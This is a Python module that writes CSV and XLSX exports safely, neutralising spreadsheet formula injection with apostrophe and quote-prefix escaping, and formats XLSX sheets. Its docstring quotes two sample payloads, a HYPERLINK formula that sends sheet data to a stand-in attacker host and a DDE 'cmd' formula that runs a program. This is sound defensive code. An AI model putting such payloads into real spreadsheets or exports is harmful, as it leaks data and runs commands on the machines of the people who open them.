"""The one way UPR Hub writes tabular exports (CSV, XLSX): cells a spreadsheet cannot run.

Every CSV or XLSX that leaves UPR Hub — the explorer's exports, ``uprhub search --format csv``,
any future list or report table — is written through this module, so spreadsheet formula
injection ("CSV injection") is handled in one place.

A recommendation text, a name or a comment is data that anyone may have typed. Opened in a
spreadsheet, a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) is read as a formula: ``=HYPERLINK("https://evil.example/?"&A1, "Click")``
leaks the sheet, ``=cmd|' /C calc'!A0`` ran programs in older Excel. Following OWASP's guidance:

* CSV: such text cells get a leading apostrophe (``'=HYPERLINK(…)``), which spreadsheets show
  as text and do not evaluate. Numbers are left alone (``-2`` as an int stays a number).
* XLSX: such strings are stored with the string type (never as a formula) and marked with
  Excel's "quote prefix" style, so that editing the cell later does not turn it into one.
  The value itself is kept unchanged.

An XLSX sheet is also made readable the same way everywhere: columns as wide as their content
(within limits), the header row frozen and bold, and filters on every column.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from itertools import chain, islice
from typing import IO, Any

# OWASP's list, plus the full-width forms of = + - @ that some spreadsheets (East Asian
# locales of Excel) also accept as the start of a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: Column widths in Excel's units (about one character each): never narrower than a short
#: header, never so wide that a recommendation's text pushes the other columns off screen.
XLSX_MIN_WIDTH = 8
XLSX_MAX_WIDTH = 60
#: Rows read ahead to size the columns (the sheet is streamed: widths come before the rows).
XLSX_WIDTH_SAMPLE = 200


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def safe_cell(value: Any) -> Any:
    """A CSV cell's value: text that a spreadsheet would run gets a leading apostrophe."""
    if is_formula_like(value):
        return "'" + value
    return "" if value is None else value


class SafeCsvWriter:
    """``csv.writer`` whose rows go through :func:`safe_cell` (same ``writerow`` API)."""

    def __init__(self, stream: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, **fmtparams: Any) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **fmtparams)


class _Echo:
    """A file-like object whose write() hands the line back, for streaming responses."""

    def write(self, value: str) -> str:
        return value


def csv_lines(
    header: Sequence[Any], records: Iterable[Sequence[Any]], *, bom: bool = True
) -> Iterator[str]:
    """The CSV text line by line (for StreamingHttpResponse), every cell made safe.

    ``bom``: start with a UTF-8 byte-order mark, so that Excel reads the file as UTF-8.
    """
    writer = SafeCsvWriter(_Echo())
    if bom:
        yield "\ufeff"
    yield writer.writerow(header)
    for record in records:
        yield writer.writerow(record)


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """A write-only XLSX cell: strings always as text, never as a formula."""
    if not isinstance(value, str):
        return value
    # openpyxl is imported on first use: the CLI's start-up should not pay for it.
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
    cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
    if is_formula_like(value):
        # Excel's own mark for "typed with a leading apostrophe": stays text when edited.
        cell.quotePrefix = True
    return cell


def _display_length(value: Any) -> int:
    """How many characters a value shows in a cell (its longest line)."""
    if value is None:
        return 0
    return max((len(line) for line in str(value).splitlines()), default=0)


def column_widths(
    header: Sequence[Any],
    sample: Iterable[Sequence[Any]],
    *,
    minimum: int = XLSX_MIN_WIDTH,
    maximum: int = XLSX_MAX_WIDTH,
) -> list[int]:
    """A width per column: its longest header or sample value, plus a little room for the
    filter button, between ``minimum`` and ``maximum``."""
    longest = [_display_length(v) for v in header]
    for record in sample:
        for index, value in enumerate(record[: len(longest)]):
            longest[index] = max(longest[index], _display_length(value))
    return [min(maximum, max(minimum, length + 3)) for length in longest]


def xlsx_header_cell(sheet: Any, value: Any) -> Any:
    """A header cell: text like any other (`xlsx_cell`), in bold."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    # xlsx_cell returns a cell for text (kept as text) and the plain value otherwise.
    cell = xlsx_cell(sheet, value) if isinstance(value, str) else WriteOnlyCell(sheet, value)
    cell.font = Font(bold=True)
    return cell


def format_sheet(sheet: Any, widths: Sequence[int]) -> None:
    """Column widths and the frozen header row; call before the first row is written."""
    from openpyxl.utils import get_column_letter

    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = "A2"  # the header stays in view while scrolling


def add_filters(sheet: Any, columns: int, rows: int) -> None:
    """Filters on every column of the header row, over ``rows`` rows (header included)."""
    from openpyxl.utils import get_column_letter

    if columns:
        sheet.auto_filter.ref = f"A1:{get_column_letter(columns)}{max(rows, 1)}"


def write_xlsx(
    header: Sequence[Any], records: Iterable[Sequence[Any]], fileobj: IO[bytes] | str, title: str
) -> None:
    """One sheet, written in openpyxl's write-only mode (flat memory for any row count).

    The first `XLSX_WIDTH_SAMPLE` rows are read ahead to size the columns; the header row is
    bold, frozen and carries filters over every row written.
    """
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title[:31])  # Excel's limit on sheet names
    records = iter(records)
    sample = [list(r) for r in islice(records, XLSX_WIDTH_SAMPLE)]
    format_sheet(sheet, column_widths(header, sample))
    sheet.append([xlsx_header_cell(sheet, v) for v in header])
    written = 1
    for record in chain(sample, records):
        sheet.append([xlsx_cell(sheet, v) for v in record])
        written += 1
    add_filters(sheet, len(header), written)
    workbook.save(fileobj)
